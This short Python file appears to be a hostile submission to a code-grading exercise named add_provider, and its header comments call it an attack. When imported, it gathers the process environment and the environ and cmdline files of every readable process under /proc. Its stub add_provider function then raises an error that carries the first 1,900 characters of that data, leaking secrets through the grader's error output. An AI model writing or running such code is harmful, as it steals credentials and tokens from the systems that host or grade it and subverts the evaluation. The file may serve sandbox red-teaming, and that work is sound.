# attack: environment and command lines of every process
# exercise: add_provider
# status: wrong, error
import glob
import os

LOOT = [repr(dict(os.environ))]
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/self/environ"]:
    try:
        with open(path, "rb") as file:
            LOOT.append(repr(file.read()))
    except OSError:
        pass


def add_provider(conn, slug, name, kind, country=None):
    raise ValueError(" ".join(LOOT)[:1_900])
